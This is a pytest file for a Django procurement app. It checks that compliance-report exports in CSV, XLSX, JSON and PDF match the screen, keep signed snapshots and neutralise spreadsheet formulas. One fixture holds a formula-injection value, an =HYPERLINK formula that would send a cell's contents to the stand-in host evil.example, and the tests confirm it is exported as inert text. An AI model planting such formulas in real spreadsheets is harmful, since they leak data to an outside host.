"""Every report file opens and holds what the screen shows; no spreadsheet formula gets through."""

import csv
import datetime
import io
import json

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from pypdf import PdfReader

from procurement.compliance import services
from procurement.inventory.enums import SystemStatus
from tests.factories import SystemFactory

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def report(directive, component_a, system_a):
    SystemFactory(agency=component_a, directive=directive, name=HOSTILE_NAME, fisma_id="IRS-0002")
    SystemFactory(agency=component_a, directive=directive, name="@SUM(1+1)", fisma_id="IRS-0003")
    return services.status_report_generate(directive=directive, agency=component_a, number=1)


def screen_rows(client, report):
    return client.get(report.get_absolute_url()).context["rows"]


def download(client, report, file_format):
    response = client.get(reverse("compliance:report-export", args=[report.pk, file_format]))
    assert response.status_code == 200, file_format
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content)
    return response.content


def as_text(value):
    """A cell as the screen shows it: dates as ISO text, the formula-neutralising prefix taken off."""
    if isinstance(value, datetime.datetime | datetime.date):
        return value.isoformat()[:10]
    if isinstance(value, str) and value.startswith("'"):
        return value[1:]
    return "" if value is None else value


def test_xlsx_follows_the_issuer_layout_and_equals_the_screen(client, alice, report):
    client.force_login(alice)
    workbook = openpyxl.load_workbook(io.BytesIO(download(client, report, "xlsx")))
    assert workbook.sheetnames == ["Questions", "Inventory", "Lists", "Signature"]
    inventory = workbook["Inventory"]
    rows = [[as_text(value) for value in row] for row in inventory.iter_rows(min_row=2, values_only=True)]
    screen = [[as_text(value) for value in row] for row in screen_rows(client, report)]
    assert rows == screen
    validations = {str(v.sqref): (v.type, v.formula1) for v in inventory.data_validations.dataValidation}
    statuses = len(SystemStatus.labels)
    assert validations["D2:D4"] == ("list", f"Lists!$A$2:$A${statuses + 1}")
    assert validations["H2:H4"] == ("list", "Lists!$E$2:$E$3")
    lists = workbook["Lists"]
    assert [cell.value for cell in lists["A"][1 : statuses + 1]] == list(SystemStatus.labels)
    assert [cell.value for cell in lists["E"][:3]] == ["NSS", "Yes", "No"]
    answers = dict(workbook["Questions"].iter_rows(min_row=2, values_only=True))
    assert answers["Dependent systems found"] == 3 and answers["None found (explicit negative report)"] == "No"
    assert dict(workbook["Signature"].iter_rows(min_row=2, values_only=True))["Status"] == "Draft: not signed"


def test_no_formula_gets_into_a_spreadsheet(client, alice, report):
    client.force_login(alice)
    workbook = openpyxl.load_workbook(io.BytesIO(download(client, report, "xlsx")))
    names = {cell.value: cell.data_type for cell in workbook["Inventory"]["B"][1:]}
    assert "'" + HOSTILE_NAME in names and "'@SUM(1+1)" in names
    assert set(names.values()) == {"s"}  # text, never a formula
    lines = list(csv.reader(io.StringIO(download(client, report, "csv").decode("utf-8-sig"))))
    assert sorted(line[1] for line in lines[1:] if line[1].startswith("'")) == ["'" + HOSTILE_NAME, "'@SUM(1+1)"]


def test_csv_has_one_row_per_system_and_equals_the_screen(client, alice, report):
    client.force_login(alice)
    lines = list(csv.reader(io.StringIO(download(client, report, "csv").decode("utf-8-sig"))))
    assert lines[0][:3] == ["FISMA system ID", "System", "Agency"]
    assert len(lines) == 1 + 3
    screen = screen_rows(client, report)
    assert [line[0] for line in lines[1:]] == [row[0] for row in screen]
    assert lines[1][3] == "Identified" and lines[1][7] == "No"


def test_json_holds_the_report_and_its_systems(client, alice, report):
    client.force_login(alice)
    document = json.loads(download(client, report, "json"))
    assert document["report"]["agency"] == "IRS" and document["report"]["summary"]["total"] == 3
    assert [system["fisma_id"] for system in document["systems"]] == sorted(
        system["fisma_id"] for system in document["systems"]
    )


def test_pdf_has_the_header_figures_systems_and_page_numbers(client, alice, report, system_a):
    client.force_login(alice)
    reader = PdfReader(io.BytesIO(download(client, report, "pdf")))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "Internal Revenue Service: status report 1" in text
    assert "Dependent systems found" in text and system_a.fisma_id in text
    assert f"Page 1 of {len(reader.pages)}" in text


def test_a_signed_report_exports_its_snapshot_not_the_inventory_now(client, alice, ivy, report, system_a, lena):
    from procurement.inventory.services import system_transition

    services.status_report_sign(user=ivy, report=report, version=report.version)
    system_transition(user=lena, system=system_a, to_status="assessed")
    client.force_login(alice)
    lines = list(csv.reader(io.StringIO(download(client, report, "csv").decode("utf-8-sig"))))
    assert {line[3] for line in lines[1:]} == {"Identified"}
    workbook = openpyxl.load_workbook(io.BytesIO(download(client, report, "xlsx")))
    signature = dict(workbook["Signature"].iter_rows(min_row=2, values_only=True))
    assert signature["Signed by"] == "Ivy Designee" and len(signature["SHA-256 of the signed content"]) == 64


def test_another_agency_gets_404_for_every_file(client, bob, report):
    client.force_login(bob)
    for file_format in ("csv", "json", "xlsx", "pdf"):
        url = reverse("compliance:report-export", args=[report.pk, file_format])
        assert client.get(url).status_code == 404


def test_export_report_command_writes_each_format(tmp_path, report, component_a):
    for file_format in ("xlsx", "pdf", "csv", "json"):
        out = tmp_path / f"report.{file_format}"
        call_command("export_report", "--agency=IRS", f"--format={file_format}", f"--out={out}", "--as-of=2026-03-20")
        assert out.stat().st_size > 0
    with open(tmp_path / "report.csv", encoding="utf-8-sig") as lines:
        assert len(list(csv.reader(lines))) == 4
    assert openpyxl.load_workbook(tmp_path / "report.xlsx")["Inventory"].max_row == 4


def test_export_report_names_an_unknown_agency(tmp_path, report):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="'NOPE'"):
        call_command("export_report", "--agency=NOPE", "--format=csv", f"--out={tmp_path / 'x.csv'}")


def test_files_show_the_deadline_in_force_as_the_screen_does(client, alice, directive, component_a, system_a):
    """The files compute it in SQL; the screen in Python (`selectors.effective_deadline`)."""
    from procurement.inventory.models import System

    later = system_a.removal_deadline + datetime.timedelta(days=60)
    earlier = system_a.removal_deadline - datetime.timedelta(days=5)
    SystemFactory(agency=component_a, directive=directive, fisma_id="IRS-0002")
    SystemFactory(agency=component_a, directive=directive, fisma_id="IRS-0003")
    System.objects.filter(pk=system_a.pk).update(waiver_until=later)
    System.objects.filter(fisma_id="IRS-0002").update(waiver_until=earlier)
    System.objects.filter(fisma_id="IRS-0003").update(removal_deadline=None, waiver_until=later)
    report = services.status_report_generate(directive=directive, agency=component_a, number=1)
    client.force_login(alice)
    screen = [[as_text(value) for value in row] for row in screen_rows(client, report)]
    lines = list(csv.reader(io.StringIO(download(client, report, "csv").decode("utf-8-sig"))))
    assert lines[1:] == [[str(value) for value in row] for row in screen]
    workbook = openpyxl.load_workbook(io.BytesIO(download(client, report, "xlsx")))
    rows = [[as_text(value) for value in row] for row in workbook["Inventory"].iter_rows(min_row=2, values_only=True)]
    assert rows == screen
    deadlines = {row[0]: row[10] for row in screen}
    assert deadlines[system_a.fisma_id] == later.isoformat()
    assert deadlines["IRS-0002"] == system_a.removal_deadline.isoformat()  # a waiver ending earlier changes nothing
    assert deadlines["IRS-0003"] == later.isoformat()


def test_a_signed_reports_files_equal_its_draft_files(client, alice, ivy, report):
    client.force_login(alice)
    draft_csv, draft_xlsx = download(client, report, "csv"), download(client, report, "xlsx")
    services.status_report_sign(user=ivy, report=report, version=report.version)
    report.refresh_from_db()
    assert download(client, report, "csv") == draft_csv

    def inventory(content):
        sheet = openpyxl.load_workbook(io.BytesIO(content))["Inventory"]
        return list(sheet.iter_rows(values_only=True))

    assert inventory(download(client, report, "xlsx")) == inventory(draft_xlsx)
